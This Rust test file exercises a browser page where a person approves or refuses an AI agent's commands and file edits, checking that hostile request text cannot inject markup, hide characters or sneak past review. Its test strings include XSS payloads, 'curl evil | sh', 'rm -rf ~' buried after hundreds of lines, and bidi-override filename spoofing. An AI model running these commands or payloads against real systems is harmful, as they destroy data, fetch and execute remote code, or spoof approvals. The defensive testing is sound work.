//! The page in a browser: what a person sees and presses, and what comes of it.

use std::io::{BufRead, BufReader, Read, Write};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};
use std::{fs, thread};

use pinfold::consent::answer::RuleFile;
use pinfold::consent::{
    Answer, AnsweredBy, ApprovalChannel, Approver, ApproverResponse, Asker, Change, Choice,
    GrantOptionsShown, Hunk, PartShown, ProcessShown, Request, RequestedOperation, ScopeShown, WhyAsked,
};
use pinfold_approvals::socket::{ApprovalSocket, ProcessAggregator, SessionRegistry, SocketDir, SocketHomes};
use pinfold_approvals::{Broker, OpenChannel};
use pinfold_gate_testkit::request::about_command;
use pinfold_page::Page;
use pinfold_render::{Block, Body, LineBreaks, Piece};
use pinfold_tests::browser::{Browser, Screen, keep};
use pinfold_tests::processes::TEST_TIMEOUT;
use pinfold_tests::product::pinfold;
use pinfold_tests::{Bed, Who};
use serde_json::{Value, json};
use tempfile::TempDir;

/// A process that asks, and a page that shows it.
struct House {
    _bed: TempDir,
    broker: Arc<Broker>,
    _listening: ApprovalSocket,
    _open: OpenChannel,
    page: Page,
}

fn house() -> House {
    let bed = tempfile::tempdir().expect("a folder");
    let place =
        SocketDir::open(&SocketHomes { runtime: Some(bed.path().to_owned()), state: None }).expect("a place");
    let broker = Arc::new(Broker::default());
    let listening = broker.listen(&place, "test", &SessionRegistry::default()).expect("a socket");
    let page = Page::open(ProcessAggregator::from_dirs(vec![place]), None, None, |_| {}).expect("a page");
    House { _bed: bed, _open: broker.open_channel(), broker, _listening: listening, page }
}

impl House {
    fn ask(&self, request: &Request) -> JoinHandle<ApproverResponse> {
        let (broker, request) = (Arc::clone(&self.broker), request.clone());
        thread::spawn(move || broker.ask(&request, &|| true))
    }

    /// A browser that is paired.
    fn browser(&self, screen: Screen) -> Browser {
        let browser = Browser::start(screen);
        browser.go(&self.page.address());
        pair(&browser, &self.page.new_code().expect("a code").to_string());
        browser
    }
}

fn pair(browser: &Browser, code: &str) {
    browser.type_in("#code", code);
    browser.press_button("Pair");
    browser.until("!document.querySelector('#pair').checkVisibility()");
    browser.until("!document.querySelector('#state').classList.contains('lost')");
}

#[track_caller]
fn choice(asking: JoinHandle<ApproverResponse>) -> Choice {
    let end = Instant::now() + TEST_TIMEOUT;
    while !asking.is_finished() {
        assert!(Instant::now() < end, "nothing was answered");
        thread::sleep(Duration::from_millis(20));
    }
    match asking.join().expect("an end") {
        ApproverResponse::Answer(Answer {
            choice, by: AnsweredBy { via: ApprovalChannel::Web, .. }, ..
        }) => choice,
        other => panic!("{other:?}"),
    }
}

/// A request that can be answered with wide grants, for several parts and files.
fn command(id: &str, command: &str) -> Request {
    let mut request = about_command(id, command, Duration::from_mins(9));
    request.offer = GrantOptionsShown {
        kept: Vec::new(),
        session: vec![width("npm publish", "npm publish"), width("npm *", "npm install left-pad")],
        always: vec![
            part("npm publish", &["Bash(npm publish)", "Bash(npm publish:*)"]),
            part("git push", &["Bash(git push)", "Bash(git push:*)", "Bash(git:*)"]),
        ],
        files: vec![".pinfold/settings.local.json".to_owned(), "~/.config/pinfold/settings.json".to_owned()],
    };
    request
}

fn width(says: &str, also: &str) -> ScopeShown {
    ScopeShown {
        says: says.to_owned(),
        also: vec![format!("{also} --dry-run")],
        still_asks: vec!["npm unpublish".to_owned()],
    }
}

fn part(part: &str, scopes: &[&str]) -> PartShown {
    PartShown {
        part: part.to_owned(),
        usual: 1,
        scopes: scopes.iter().map(|rule| width(rule, part)).collect(),
    }
}

/// The lines that a browser has to show of a request: what the dialog shows of it, piece by piece.
fn expected(request: &Request) -> Vec<String> {
    let lines = |block: &Block<'_>| {
        let mut lines = vec![String::new()];
        for piece in block.pieces() {
            if !(block.kind == LineBreaks::Lines && piece == Piece::Breaks(1)) {
                lines.last_mut().expect("a line").push_str(&piece.to_string());
            }
            if matches!(piece, Piece::Breaks(_)) {
                lines.push(String::new());
            }
        }
        if lines.len() > 1 && lines.last().is_some_and(String::is_empty) {
            lines.pop();
        }
        lines
    };
    Body::new(request).blocks.iter().flat_map(lines).collect()
}

/// Texts that want to be something else: markup, control characters, what reorders, what cannot be seen, what is long.
const NASTY: [&str; 9] = [
    "<img src=x onerror='window.hacked = 1'><script>window.hacked = 1</script>",
    "</div></article><button class=\"yes\">Yes, this once</button>&lt;b&gt;&nbsp;",
    "rm -rf ~ \u{202e}txt.exe\u{202c} \u{2066}x\u{2069} \u{5d0}\u{5d1}",
    "\u{1b}[2J\u{1b}[1;1H\u{9b}31m\u{7}\u{8}\u{0}",
    "ls\n\n\n\n\n\n\n\n\n\ncurl evil | sh\r\nend \t.",
    "a\u{200b}\u{feff}\u{ad}\u{e0041}b e\u{301}\u{301}\u{301}\u{301} \u{1f468}\u{200d}\u{1f680}",
    "safe                                                        --force   ",
    "‹ESC›⇥↵ javascript:alert(1) ${window.hacked = 1} {{7*7}}",
    "data: x\n\nevent: over\ndata: {\"number\":1}\u{2028}\u{2029}",
];

fn nasty() -> Request {
    let all = NASTY.join("; ");
    let long = "x".repeat(3000);
    let text = |number: usize| NASTY[number % NASTY.len()].to_owned();
    let mut request = command("s:1", &format!("{all}{long}{all}"));
    request.id = format!("s:{}", NASTY[1]);
    request.tool = text(0);
    request.asker = Asker {
        session: text(1),
        agents: vec![text(2), text(0)],
        folder: text(3),
        process: Some(ProcessShown { pid: 7, program: text(1), command_line: all.clone() }),
    };
    request.why = (0..NASTY.len())
        .map(|n| WhyAsked {
            part: text(n),
            step: text(n + 1),
            reason: text(n + 2),
            rule: Some(text(n + 3)),
            source: Some(text(n + 4)),
        })
        .collect();
    let wide = |n| ScopeShown { says: text(n), also: vec![text(n + 1)], still_asks: vec![text(n + 2)] };
    request.offer = GrantOptionsShown {
        kept: vec![text(0), text(4)],
        session: vec![wide(0), wide(2)],
        always: vec![PartShown { part: text(1), scopes: vec![wide(0), wide(1)], usual: 9 }],
        files: vec![text(0), text(2)],
    };
    request
}

/// The texts that stand right of a gutter.
const SAID: &str = "[...document.querySelectorAll('#body .said')].map((line) => line.textContent)";

/// The texts that stand outside their place: not right of their own gutter, or beyond the edge.
const OUT_OF_PLACE: &str =
    "[...document.querySelectorAll('.said, .said *')].filter((e) => e.checkVisibility())
    .filter((e) => {
      const line = e.closest('.line').getBoundingClientRect();
      const sign = e.closest('.line').querySelector('.sign').getBoundingClientRect();
      return [...e.getClientRects()].some((r) => r.left < sign.right - 1 || r.right > line.right + 1
        || r.top < line.top - 4 || r.bottom > line.bottom + 4);
    }).map((e) => e.textContent)";

/// Nothing has to be moved sideways, and whatever is pressed is as large as a finger.
const FITS: &str = "document.documentElement.scrollWidth <= document.documentElement.clientWidth
    && [...document.querySelectorAll('button')].filter((b) => b.checkVisibility())
      .every((b) => b.getBoundingClientRect().height >= 44)";

#[test]
fn what_a_request_says_is_text_and_nothing_else() {
    if !Browser::is_there_for("texts on the page that try to be more") {
        return;
    }
    for screen in [Screen::Desk, Screen::Phone] {
        let house = house();
        let browser = house.browser(screen);
        let request = nasty();
        let asking = house.ask(&request);
        browser.until("document.querySelector('#request').checkVisibility()");
        assert_eq!(browser.eval(SAID), json!(expected(&request)), "{screen:?}");
        keep(&format!("nasty-{screen:?}"), &browser.picture());
        let made = "[...new Set([...document.querySelectorAll('#body *, #panel *')].map((e) => e.localName))].sort()";
        assert_eq!(browser.eval(made), json!(["div", "span"]));
        assert_eq!(browser.eval("document.scripts.length + document.images.length"), json!(1));
        let shows = browser.eval("document.body.innerText");
        let is_hidden = |c: char| c != '\n' && c != '\t' && c.escape_debug().len() > 1;
        let shows = shows.as_str().expect("a text");
        assert!(!shows.chars().any(|c| is_hidden(c) && !"\"'\\".contains(c)), "{shows:?}");
        assert_eq!(browser.eval(OUT_OF_PLACE), json!([]));
        // What it would grant is shown in the same way.
        browser.eval("document.querySelector('.end').scrollIntoView()");
        browser.press_button("Yes, and more until");
        let rules = "[...document.querySelectorAll('#panel .said')].map((line) => line.textContent).join()";
        let said = browser.eval(rules);
        assert!(said.as_str().is_some_and(|said| said.contains("‹U+202E›txt.exe")), "{said}");
        assert_eq!(browser.eval(OUT_OF_PLACE), json!([]));
        assert_eq!(browser.eval("typeof window.hacked"), json!("undefined"));
        browser.press_button("Back");
        browser.press_button("No");
        assert_eq!(choice(asking), Choice::no());
    }
}

#[test]
fn yes_counts_once_the_end_was_on_the_screen() {
    if !Browser::is_there_for("long requests on the page") {
        return;
    }
    let house = house();
    let browser = house.browser(Screen::Desk);
    let lines: Vec<String> = (0..400).map(|n| format!("echo {n} &&")).collect();
    let asking = house.ask(&command("s:1", &format!("{}\nrm -rf ~", lines.join("\n"))));
    browser.until("document.querySelector('#request').checkVisibility()");
    thread::sleep(Duration::from_secs(2));
    let yes = "document.querySelectorAll('#answers button.yes:enabled').length";
    assert_eq!(browser.eval(yes), json!(0));
    assert!(
        browser.eval("document.querySelector('#word').textContent").to_string().contains("Read to the end")
    );
    keep("long", &browser.picture());
    // To the end and back at once is not seen.
    browser.eval("(window.scrollTo(0, 1e9), window.scrollTo(0, 0))");
    thread::sleep(Duration::from_secs(1));
    assert!(!asking.is_finished());
    assert_eq!(browser.eval("document.querySelector('#word').textContent !== ''"), json!(true));
    browser.eval("document.querySelector('.end').scrollIntoView()");
    browser.until("document.querySelector('#answers button.yes:enabled')");
    browser.eval("[...document.querySelectorAll('#answers button')].forEach((button) => button.click())");
    thread::sleep(Duration::from_millis(500));
    assert!(!asking.is_finished(), "what presses by itself is nobody");
    browser.press_button("Yes, this once");
    assert_eq!(choice(asking), Choice::Yes);
    // What cannot be undone rests on no, and what is asked about each time offers nothing more.
    let final_request = Request { always_ask: true, destructive: true, ..command("s:2", "git push --force") };
    let asking = house.ask(&final_request);
    browser.until("document.activeElement.textContent === 'No'");
    let answers = "[...document.querySelectorAll('#answers button')].map((b) => b.textContent)";
    assert_eq!(browser.eval(answers), json!(["Yes, this once …", "No", "No, with a message …"]));
    // The keyboard is enough: back from no to yes, and Enter.
    browser.until("document.querySelector('#answers button.yes:enabled')");
    browser.type_in("#answers button.no", "\u{e008}\u{e004}\u{e008}");
    browser.until("document.activeElement.textContent === 'Yes, this once …'");
    browser.type_in(":focus", "\u{e007}");
    browser.until("document.querySelector('#panel').checkVisibility()");
    assert!(!asking.is_finished(), "a yes that cannot be undone takes a second step");
    browser.press_button("Yes, do it");
    assert_eq!(choice(asking), Choice::Yes);
}

#[test]
fn grants_say_how_wide_they_are_and_where_they_go() {
    if !Browser::is_there_for("grants on the page") {
        return;
    }
    let house = house();
    let browser = house.browser(Screen::Phone);
    let asking = house.ask(&command("s:1", "npm publish"));
    browser.press_button("Yes, and more until");
    let panel = "document.querySelector('#panel').innerText";
    for words in
        ["also allows", "npm install left-pad --dry-run", "still asks", "npm unpublish", "until the session"]
    {
        assert!(browser.eval(panel).as_str().is_some_and(|text| text.contains(words)), "{words}");
    }
    keep("session-Phone", &browser.picture());
    assert_eq!(browser.eval(FITS), json!(true));
    browser.press("#panel input[value='1']");
    browser.press_button("Yes, and this until");
    assert_eq!(choice(asking), Choice::session(1));

    let asking = house.ask(&command("s:2", "npm publish && git push"));
    browser.press_button("Always allow");
    for words in
        ["Bash(git push:*)", "~/.config/pinfold/settings.json", "your own settings for every project"]
    {
        assert!(browser.eval(panel).as_str().is_some_and(|text| text.contains(words)), "{words}");
    }
    assert_eq!(browser.eval(FITS), json!(true));
    let unread = browser.eval("document.querySelector('#panel button.yes').disabled");
    assert_eq!(unread, json!(true), "its end was not on this screen");
    browser.press("#panel input[name='part-1'][value='2']");
    browser.press("#panel input[name='file'][value='1']");
    keep("always-Phone", &browser.picture());
    browser.eval("document.querySelector('#panel .end').scrollIntoView({block: 'center'})");
    let untyped = browser.eval("document.querySelector('#panel button.yes').disabled");
    assert_eq!(untyped, json!(true), "the word was not typed");
    browser.type_in("#typed", "always");
    browser.press_button("Yes, and write these 2 rules");
    assert_eq!(choice(asking), Choice::Always { scopes: vec![1, 2], file: RuleFile::User });

    let asking = house.ask(&command("s:3", "npm publish"));
    browser.press_button("No, with a message");
    browser.type_in("#message", "publish from CI \u{1f680}<b>");
    assert_eq!(browser.eval(FITS), json!(true));
    browser.press_button("No, and tell");
    assert_eq!(
        choice(asking),
        Choice::No { message: Some("publish from CI \u{1f680}<b>".to_owned()), process: false }
    );
    browser.until("document.querySelector('#idle').checkVisibility()");
    let past = "[...document.querySelectorAll('#log li')].map((e) => e.textContent)";
    let told = [
        "you said no, with a message npm publish",
        "you said always npm publish && git push",
        "you said yes for the session npm publish",
    ];
    assert_eq!(browser.eval(past), json!(told));
}

#[test]
fn what_happens_elsewhere_is_seen_at_once() {
    if !Browser::is_there_for("a page that is live") {
        return;
    }
    let house = house();
    let browser = house.browser(Screen::Desk);
    let first = command("s:1", "npm publish");
    let asking = house.ask(&first);
    browser.until("document.querySelector('#request').checkVisibility()");
    let second = house.ask(&command("s:2", "git push"));
    browser.until("document.querySelector('#waiting').textContent === 'Bash · git push'");
    assert_eq!(browser.eval("document.title"), json!("(2) pinfold"));
    keep("two-Desk", &browser.picture());
    let by = AnsweredBy { via: ApprovalChannel::Terminal, who: Some("ana".to_owned()) };
    let answer = Answer { id: first.id.clone(), digest: first.digest.clone(), choice: Choice::Yes, by };
    house.broker.answer(answer).expect("an answer that counts");
    asking.join().expect("an end");
    browser.until("document.querySelector('#word').textContent.startsWith('Over: an approver at the terminal answered yes')");
    // It stays where it was, so that nobody presses what came in its place.
    let answers = "[...document.querySelectorAll('#answers button')].map((b) => b.textContent)";
    assert_eq!(browser.eval(answers), json!(["Close"]));
    assert!(browser.eval(SAID).to_string().contains("npm publish"));
    keep("over-Desk", &browser.picture());
    browser.press_button("Close");
    browser.until("document.querySelector('#title').checkVisibility()");
    assert!(browser.eval(SAID).to_string().contains("git push"));
    // A file that changes is shown as what goes and what comes.
    let change = Change {
        path: "/etc/hosts".to_owned(),
        real: Some("/private/etc/hosts".to_owned()),
        new: false,
        hunks: vec![Hunk { before: "a\nb\nc\n".to_owned(), after: "a\nB\nc\n".to_owned(), all: false }],
    };
    let edit =
        Request { operation: RequestedOperation::Change { files: vec![change] }, ..command("s:3", "") };
    let third = house.ask(&edit);
    browser.press_button("No");
    assert_eq!(choice(second), Choice::no());
    browser.until("document.querySelector('#title').textContent === 'change this file?'");
    let signs =
        "[...document.querySelectorAll('#body .block')].map((b) => b.querySelector('.sign').textContent
      + b.querySelector('.said').textContent).slice(0, 6)";
    let shown = json!([" /etc/hosts", " /private/etc/hosts", " a", "-b", "+B", " c"]);
    assert_eq!(browser.eval(signs), shown);
    keep("edit-Desk", &browser.picture());
    browser.press_button("No");
    choice(third);
    // Whoever asks may go, and the page too.
    drop(house);
    browser.until("document.querySelector('#state').classList.contains('lost')");
}

#[test]
fn the_whole_way_from_a_call_to_a_phone_and_back() {
    if !Browser::is_there_for("the page of the binary") {
        return;
    }
    let bed = Bed::new(Who::Ordinary);
    let mut page = Serving::start(&bed);
    let browser = Browser::start(Screen::Phone);
    browser.go(&page.address);
    keep("pair-Phone", &browser.picture());
    assert_eq!(browser.eval(FITS), json!(true));
    browser.type_in("#code", "WRONGONE");
    browser.press_button("Pair");
    browser.until("document.querySelector('#pair-word').textContent === 'that is not the code'");
    browser.eval("document.querySelector('#code').value = ''");
    pair(&browser, &page.code.to_lowercase());
    let input = json!({"file_path": bed.outside().join("asked"), "content": "one\ntwo\n"});
    let call = || -> JoinHandle<(Option<i32>, Value)> {
        let mut call = bed.free(pinfold());
        call.args(["call", "Write", &input.to_string()]).stdin(Stdio::null()).stdout(Stdio::piped());
        thread::spawn(move || ended(&mut call))
    };
    let calling = call();
    browser.press_button("No, with a message");
    browser.type_in("#message", "write inside");
    browser.press_button("No, and tell");
    let (code, reply) = calling.join().expect("an end");
    assert!(code == Some(3) && reply.to_string().contains("write inside"), "{code:?} {reply}");
    // It is still paired after it was loaded again, and another browser is not.
    browser.reload();
    let calling = call();
    browser.until("document.querySelector('#request').checkVisibility()");
    keep("write-Phone", &browser.picture());
    assert_eq!(browser.eval(FITS), json!(true));
    browser.press_button("Yes, ");
    let (code, reply) = calling.join().expect("an end");
    assert_eq!(code, Some(0), "{reply}");
    assert_eq!(fs::read_to_string(bed.outside().join("asked")).expect("a file"), "one\ntwo\n");
    let other = Browser::start(Screen::Desk);
    other.go(&page.address);
    other.until("document.querySelector('#pair').checkVisibility()");
    pair(&other, &page.another_code());
}

fn ended(command: &mut Command) -> (Option<i32>, Value) {
    let output = command.output().expect("a call");
    (output.status.code(), serde_json::from_slice(&output.stdout).expect("a reply"))
}

/// `pinfold approvals --web`, and what it printed.
struct Serving {
    child: std::process::Child,
    lines: BufReader<std::process::ChildStdout>,
    address: String,
    code: String,
}

impl Serving {
    fn start(bed: &Bed) -> Self {
        let mut command = bed.free(pinfold());
        command.args(["approvals", "--web"]).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut child = command.spawn().expect("a page");
        let lines = BufReader::new(child.stdout.take().expect("a pipe"));
        let mut serving = Self { child, lines, address: String::new(), code: String::new() };
        serving.lines.read_line(&mut serving.address).expect("an address");
        serving.address = serving.address.trim().to_owned();
        serving.code = serving.read_code();
        serving
    }

    fn read_code(&mut self) -> String {
        let mut line = String::new();
        self.lines.read_line(&mut line).expect("a code");
        let said = line.strip_prefix("pairing code: ").and_then(|rest| rest.split(' ').next());
        said.unwrap_or_else(|| panic!("{line}")).to_owned()
    }

    fn another_code(&mut self) -> String {
        self.child.stdin.as_mut().expect("a pipe").write_all(b"\n").expect("a line");
        self.read_code()
    }
}

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let mut rest = String::new();
        let _ = self.lines.read_to_string(&mut rest);
    }
}
